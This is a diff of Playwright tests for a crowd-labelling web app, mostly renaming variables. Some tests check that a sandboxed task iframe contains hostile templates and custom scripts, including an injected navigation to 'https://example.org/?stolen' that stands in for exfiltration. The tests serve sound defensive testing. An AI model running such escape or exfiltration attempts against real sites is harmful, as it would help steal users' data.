@@ -52,8 +52,8 @@ def test_labels_two_objects_by_keyboard(cleos_page, start, pictures):
 
 
 def test_prefetches_next_task(cleos_page, start, pictures):
-    asked = []
-    cleos_page.on("request", lambda request: "/work/sandbox/" in request.url and asked.append(request.url))
+    requested = []
+    cleos_page.on("request", lambda request: "/work/sandbox/" in request.url and requested.append(request.url))
     frame = start(pictures)
     waiting = cleos_page.frame_locator("#sandbox-next")
     expect(waiting.get_by_role("radio", include_hidden=True).first).to_be_attached()
@@ -63,7 +63,7 @@ def test_prefetches_next_task(cleos_page, start, pictures):
     expect(cleos_page.locator("#earned")).to_have_text("$0.036")
     expect(frame.get_by_role("radio", name="heron")).to_be_focused()
 
-    assert len(asked) == 2
+    assert len(requested) == 2
     ahead.refresh_from_db()
     assert (ahead.in_advance, ahead.state) == (False, AssignmentState.LIVE)
     submit(cleos_page, "1")
@@ -310,19 +310,19 @@ VIOLATES = """const violates = (act) => new Promise((yes, no) => {
 
 def tried(inside):
     """What of all that can be tried came to something."""
-    found = {}
+    result = {}
     for name, code in TRIES.items():
         attempt = (
             f"async () => {{ {VIOLATES} try {{ return ['yes', String(await ({code}))] }} catch {{ return null }} }}"
         )
-        found[name] = inside.evaluate(attempt)
-    return {name: reached for name, reached in found.items() if reached}
+        result[name] = inside.evaluate(attempt)
+    return {name: reached for name, reached in result.items() if reached}
 
 
 def test_hostile_template_is_contained(cleos_page, start, texts, monkeypatch):
     monkeypatch.setattr(choice.Choice, "template", lambda _self, _medium: HOSTILE)
     start(texts)
-    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
+    inside = next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url)
 
     assert tried(inside).keys() <= {"peer"}  # its policy lets in no script that could use one
     assert inside.title() == "Task"
@@ -335,13 +335,13 @@ OWN = """<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-cl
 
 def test_custom_template_scripts_are_contained(cleos_page, start, give):
     start(give([{"source": "x"}], template=OWN % "document.title = 'inline'"))
-    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
+    inside = next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url)
 
     assert inside.title() == "inline"
     assert tried(inside) == {}
     inside.evaluate("() => { location.href = 'https://example.org/?stolen' }")
     browsing.until(cleos_page, lambda: "/work/sandbox/" not in inside.url)
-    assert not any("example.org" in one.url for one in cleos_page.frames)
+    assert not any("example.org" in frame.url for frame in cleos_page.frames)
     assert "/work/" in cleos_page.url
 
 
@@ -398,7 +398,7 @@ def test_no_page_scrolls_sideways(cleos_page, address, start, pictures, width):
         assert fits(cleos_page), path
     start(pictures)
     assert fits(cleos_page)
-    assert fits(next(one for one in cleos_page.frames if "/work/sandbox/" in one.url))
+    assert fits(next(frame for frame in cleos_page.frames if "/work/sandbox/" in frame.url))
     expect(cleos_page.frame_locator("#sandbox").get_by_role("button", name="Submit")).to_be_in_viewport()
 
 
